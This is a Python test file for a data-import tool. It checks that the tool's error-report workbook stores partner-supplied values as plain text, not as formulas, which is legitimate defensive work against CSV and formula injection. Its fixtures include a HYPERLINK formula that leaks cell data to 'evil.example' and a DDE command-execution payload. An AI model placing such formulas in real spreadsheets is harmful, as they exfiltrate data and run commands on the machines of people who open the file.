"""The error report is a workbook the coordinator opens: a partner's text in it, headers
included, must stay text, written the way exports write it."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

from coalitiondesk.core.importing import (
    ImportPlan,
    initial_mapping,
    kind_for,
    prepare_import,
    read_file,
    run_to_end,
    write_error_report,
)
from coalitiondesk.core.storage.db import Database

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PAYLOADS = ["=1+1", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3", "＝1+1", "#REF!"]


def plan_for(database: Database, path: Path) -> ImportPlan:
    table = read_file(path)
    kind = kind_for(table)
    with database.session() as session:
        mapping = initial_mapping(session=session, table=table, kind=kind)
    return run_to_end(prepare_import(database=database, table=table, kind=kind,
                                     mapping=mapping))


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def test_formulas_in_headers_and_rejected_rows_stay_text(database: Database,
                                                           tmp_path: Path) -> None:
    source = tmp_path / "partner.csv"
    header = ",".join(["Organisation", "Country", '"' + LEAK.replace('"', '""') + '"'])
    # No name: every row is rejected, so every payload reaches the report.
    rows = [f',Japan,"{payload}"' for payload in PAYLOADS]
    source.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    report = tmp_path / "report.xlsx"

    assert write_error_report(plan_for(database, source), report) == len(PAYLOADS)

    assert not re.search(r"<f[ >/]", sheet_xml(report)), "a formula reached the report"
    sheet = openpyxl.load_workbook(report).active
    assert sheet is not None
    header_cell = sheet.cell(row=1, column=5)
    assert (header_cell.value, header_cell.data_type) == (LEAK, "s")
    written = [sheet.cell(row=row, column=5) for row in range(2, 2 + len(PAYLOADS))]
    assert [cell.value for cell in written] == PAYLOADS
    assert {cell.data_type for cell in written} == {"s"}
